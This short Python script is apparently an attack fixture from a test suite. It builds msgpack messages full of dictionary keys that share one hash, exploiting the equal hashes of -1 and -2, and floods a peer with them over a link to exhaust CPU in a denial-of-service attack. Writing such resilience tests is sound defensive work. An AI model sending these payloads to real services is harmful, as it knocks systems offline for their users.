"""Answers with dictionaries whose keys all have the same hash."""

# /// attack
# uses = ["link"]
# prints = ["armed"]
# ///

# %% before
import msgpack
entries = [2]
for k in range(2_000):  # the hashes of -1 and of -2 are equal
    entries += [[1, *[-1 - (k >> n & 1) for n in range(11)]], 0]
head = msgpack.packb([0, "callback", 0, [0], entries])
head = struct.pack(">II", len(head), 0) + head
def serve():
    for _ in range(1000):
        link.sendall(head)
answering.start.answer = serve
print("armed", len(head))
